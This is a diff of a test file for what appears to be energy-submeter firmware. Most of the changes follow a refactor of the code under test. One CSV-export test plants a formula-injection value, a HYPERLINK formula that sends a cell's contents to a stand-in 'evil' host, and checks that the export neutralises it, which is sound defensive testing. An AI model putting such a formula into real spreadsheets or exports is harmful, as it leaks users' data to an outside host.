@@ -28,6 +28,18 @@ def test_power_per_input_matches_truth():
     assert s["inputs"][1]["w"] == 0.0   # the idle circuit reads 0 W
 
 
+def test_the_state_names_the_code_each_hot_loop_runs():
+    # viper where the port has a native emitter, the Python twin elsewhere: the CT sums,
+    # both grid decoders' scanners (grid: auto makes both) and, once a display driver
+    # loaded it, the page sync
+    from drivers import fbsync
+    app, clock = make_app()
+    s = app.state()["sampling"]
+    want = "viper" if IS_MP else "python"
+    assert s["kernels"] == {"sums": want, "ticscan": want, "p1scan": want, "gridscan": want, "fbsync": want}
+    assert fbsync.KERNEL == want and s["kernel"] == want  # (sums', as before)
+
+
 def test_an_input_beyond_its_range_says_so():
     # 40 kW through a 90 A CT on 8.2 ohm drives the ADC to its rails: the reading is low,
     # and the input's `clipped` count tells the installer why (burden or CT too big)
@@ -71,24 +83,22 @@ def test_power_uses_the_grid_meters_voltage_while_it_is_fresh():
     app.grid.reading.voltage_v = [240, 236, 232]  # as a three-phase meter reports them
     app.grid.last_frame_ms = clock.ticks_ms()
     base = app.measure_round()[0]
-    assert app.voltage(1, clock.ticks_ms()) == 240 and app.voltage(3, clock.ticks_ms()) == 232
-    current = app.channels[0].irms
+    assert app.meter.voltage(1, clock.ticks_ms()) == 240 and app.meter.voltage(3, clock.ticks_ms()) == 232
+    current = app.meter.channels[0].irms
     assert abs(base - 240 * current) < 0.01
     clock.advance(61000)  # no frame for a minute: back to the nominal voltage
     w = app.measure_round()[0]
-    assert abs(w - 230.0 * app.channels[0].irms) < 0.01
+    assert abs(w - 230.0 * app.meter.channels[0].irms) < 0.01
 
 
 def test_the_meters_clock_dates_the_history_and_midnight_closes_the_month():
     from submeter.clock import day_number
-    from submeter.grid.reader import _decoder
     app, clock = make_app()
     board = app.board
     board.time.day0 = day_number(2026, 11, 30)
     board.time.start = 24 * 3600 - 90              # 23:58:30 on the meter's clock
     g = app.grid
-    g.kind = "tic_standard"
-    g.decoder = _decoder(g.kind)
+    g.use("tic_standard")
     port = board.grid_port(g.kind)
     app.measure_round()
     assert app.state()["month"] is None            # no date yet: nothing to count a day in
@@ -108,8 +118,8 @@ def test_the_meters_clock_dates_the_history_and_midnight_closes_the_month():
 
 def test_a_partial_reset_is_on_flash_at_once():
     import asyncio
-    from submeter.ledger import Ledger
-    from submeter.store import Store
+    from submeter.ledger.ledger import Ledger
+    from submeter.ledger.store import Store
     app, clock = make_app()
     app.measure_round()
     for _ in range(30):
@@ -122,7 +132,7 @@ def test_a_partial_reset_is_on_flash_at_once():
     assert s["inputs"][0]["partial_kwh"] == s["inputs"][0]["kwh"]
 
     async def one_second():
-        t = asyncio.create_task(app.store_task())
+        t = asyncio.create_task(app.store.keep(app.ledger, app.clock, app.cfg["save_s"] * 1000, app.tasks))
         await asyncio.sleep_ms(50)
         t.cancel()
     asyncio.run(one_second())
@@ -165,27 +175,27 @@ def test_the_panel_resets_a_partial_after_asking():
         pins[name].value(0)
         for _ in range(ms // 20):
             clock.advance(20)
-            app.panel_step(clock.ticks_ms())
+            app.panel.step(clock.ticks_ms())
         pins[name].value(1)
         for _ in range(3):
             clock.advance(20)
-            app.panel_step(clock.ticks_ms())
+            app.panel.step(clock.ticks_ms())
 
     for name in ("down", "down", "down", "down", "ok"):    # sockets, its partial counter
         press(name)
-    assert app.screens.page == "sockets" and app.screens.detail
+    assert app.panel.screens.page == "sockets" and app.panel.screens.detail
     before = app.ledger.partial[3].wh
     press("back", 2000)                                   # held: "reset?"
-    assert app.screens.confirm and app.ledger.partial[3].wh == before > 0
+    assert app.panel.screens.confirm and app.ledger.partial[3].wh == before > 0
     press("ok")                                           # yes
     assert app.ledger.partial[3].wh == 0 and app.ledger.partial[0].wh > 0
     assert app.state()["inputs"][3]["partial_kwh"] == "0.000"
     d = app.board.display                                 # the screen says so, then shows 0
     assert d.frames > 0
-    app.screens._notice = None
-    app._drawn = None
-    app.panel_step(clock.ticks_ms())
-    from submeter.ui import BigText
+    app.panel.screens.notice_text = None
+    app.panel.drawn_at = None
+    app.panel.step(clock.ticks_ms())
+    from submeter.panel.screens import BigText
     import framebuf
     ref = framebuf.FrameBuffer(bytearray(1024), 128, 64, framebuf.MONO_VLSB)
     BigText(8).draw(ref, "0.000", 0, 14)
@@ -197,18 +207,18 @@ def test_the_power_led_blinks_on_a_fault():
     led = app.board.leds["power"]
     seen = set()
     for k in range(10):
-        app.panel_step(k * 100)
+        app.panel.step(k * 100)
         seen.add(led.value())
     assert seen == {1}                                   # all well: steady
     app.config_error = "config.json ignored: bad"
     seen = [None] * 20
     for k in range(20):
-        app.panel_step(k * 100)
+        app.panel.step(k * 100)
         seen[k] = led.value()
     assert seen.count(0) >= 8 and seen.count(1) >= 8    # a fault: it blinks, once a second
     app.config_error = None
     app.store.folder = app.board.data_dir + "/no-such-folder"
-    app.save()                                          # the flash refuses: a fault too
+    app.store.save_or_log(app.ledger)                   # the flash refuses: a fault too
     assert app.fault()
 
 
@@ -243,24 +253,30 @@ def csv_rows(text):
 
 
 def test_history_csv_quotes_text_and_makes_formulas_inert():
-    from submeter.app import USAGES, csv_text
+    from submeter.config import USAGES
+    from submeter.net import api
     app, clock = make_app()
     cur = 'E,"x"\r\n=HYPERLINK("http://evil/?"&A1)'
     app.cfg["currency"] = cur
 
-    class Rec:  # one day of export: a negative cost stays a number
+    class Rec:  # a day of export: a negative cost stays a number; its text cells as given
+        def __init__(self, date):
+            self.date = date
+
         def to_dict(self, daily):
             u = {"wh": 1500, "cost": -0.25}
-            return {"date": "2026-11-27", "wh": -2500, "cost": -0.5, "usage": {k: u for k in USAGES},
+            return {"date": self.date, "wh": -2500, "cost": -0.5, "usage": {k: u for k in USAGES},
                     "gas_l": 0, "gas_cost": 0.0, "water_l": 0, "water_cost": 0.0}
-    app.history.records = lambda kind, count: [Rec()]
-    rows = csv_rows(b"".join(app.history_csv("days", 1)).decode())
-    assert len(rows) == 2 and len(rows[0]) == len(rows[1]) == 7 + 2 * len(USAGES)
+    texts = ["2026-11-27", "=HYPERLINK(1)", "+1", "-x", "@SUM(A1)", '=a,"b"', "EUR"]
+    app.history.records = lambda kind, count: [Rec(t) for t in texts]
+    ctype, body = api.history_csv({"query": "days=7"}, app.state, app)  # GET /api/history.csv?days=7
+    raw = b"".join(body()).decode()
+    rows = csv_rows(raw)
+    assert len(rows) == 8 and len(rows[0]) == len(rows[1]) == 7 + 2 * len(USAGES)
     assert rows[0][2] == "total_cost_" + cur and rows[0][-1] == "water_cost_" + cur
     assert rows[1][:3] == ["2026-11-27", "-2.500", "-0.50"] and float(rows[1][4]) == -0.25
-    assert [csv_text(x) for x in ("=HYPERLINK(1)", "+1", "-x", "@SUM(A1)")] == \
-        ["'=HYPERLINK(1)", "'+1", "'-x", "'@SUM(A1)"]
-    assert csv_text('=a,"b"') == '"\'=a,""b"""' and csv_text("EUR") == "EUR"
+    assert [r[0] for r in rows[2:]] == ["'=HYPERLINK(1)", "'+1", "'-x", "'@SUM(A1)", "'=a,\"b\"", "EUR"]
+    assert '"\'=a,""b"""' in raw  # (as written: quoted, its quotes doubled)
 
 
 def test_a_metering_round_that_raises_is_counted_and_metering_goes_on():
@@ -270,7 +286,7 @@ def test_a_metering_round_that_raises_is_counted_and_metering_goes_on():
     if not IS_MP:
         skip("the metering task times its rounds with MicroPython's time.ticks_ms")
     app, clock = make_app()
-    ct = app.channels[0].adc
+    ct = app.meter.channels[0].adc
 
     def broken():
         del ct.read_u16  # the next reads are the CT's own
@@ -294,8 +310,9 @@ def test_a_meter_whose_metering_stops_is_reset_by_the_watchdog_and_says_so():
     # as a task stuck for good would be), the watchdog resets the board, and the next
     # start counts it and says it on the page, the panel and MQTT, until the start after
     import asyncio
-    from submeter import app as app_mod, mqtt
-    from submeter.page import page_chunks
+    from submeter import sense
+    from submeter.net import mqtt
+    from submeter.net.page import page_chunks
     if not IS_MP:
         skip("the metering task times its rounds with MicroPython's time.ticks_ms")
     folder = fresh_dir("watchdog")
@@ -309,36 +326,35 @@ def test_a_meter_whose_metering_stops_is_reset_by_the_watchdog_and_says_so():
     app = start()
     board = app.board
     assert app.reset_cause == "power" and app.notices == [] and app.state()["boot"]["watchdog_resets"] == 0
-    saved, app_mod.WATCHDOG_MS = app_mod.WATCHDOG_MS, 300
+    saved, sense.WATCHDOG_MS = sense.WATCHDOG_MS, 300
     fed = [0, 0]
 
     async def run():
-        board._stop = asyncio.Event()
-        dog = asyncio.create_task(board._watchdog_task())
+        dog = asyncio.create_task(board.watchdog_task())
         meter = asyncio.create_task(app.metering_task())
         await asyncio.sleep_ms(800)
-        fed[0] = app.wdt.feeds if app.wdt else 0
-        assert not board._stop.is_set()          # fed each round: no reset while it meters
+        fed[0] = app.meter.wdt.feeds if app.meter.wdt else 0
+        assert not board.stopping()              # fed each round: no reset while it meters
         meter.cancel()                           # the metering stops
         await asyncio.sleep_ms(800)
-        fed[1] = app.wdt.feeds
+        fed[1] = app.meter.wdt.feeds
         dog.cancel()
     try:
         asyncio.run(run())
     finally:
-        app_mod.WATCHDOG_MS = saved
-    assert fed[0] >= 3 and app.wdt.timeout_ms == 300 and fed[1] == fed[0]
-    assert board._stop.is_set()                  # reset (the host's run stops)
+        sense.WATCHDOG_MS = saved
+    assert fed[0] >= 3 and app.meter.wdt.timeout_ms == 300 and fed[1] == fed[0]
+    assert board.stopping()                      # reset (the host's run stops)
     app = start()                                # the next start
     s = app.state()
     assert app.reset_cause == "watchdog" and s["boot"]["watchdog_resets"] == 1
     page = b"".join(bytes(c) for c in page_chunks(s, app.cfg)).decode()
     assert "Restarted by the watchdog" in page and "(1 such resets in all)" in page
     assert json.loads(mqtt.state(s))["notices"] == "watchdog"
-    if app.screens:  # the panel's home screen: its title's tag
+    if app.panel.screens:  # the panel's home screen: its title's tag
         tags = []
-        app.screens._title = lambda d, text, tag="": tags.append(tag)
-        app.panel_step(0)
+        app.panel.screens._title = lambda d, text, tag="": tags.append(tag)
+        app.panel.step(0)
         assert tags == ["WDT!"]
     app = start()                                # and the one after: nothing to say, still counted
     s = app.state()
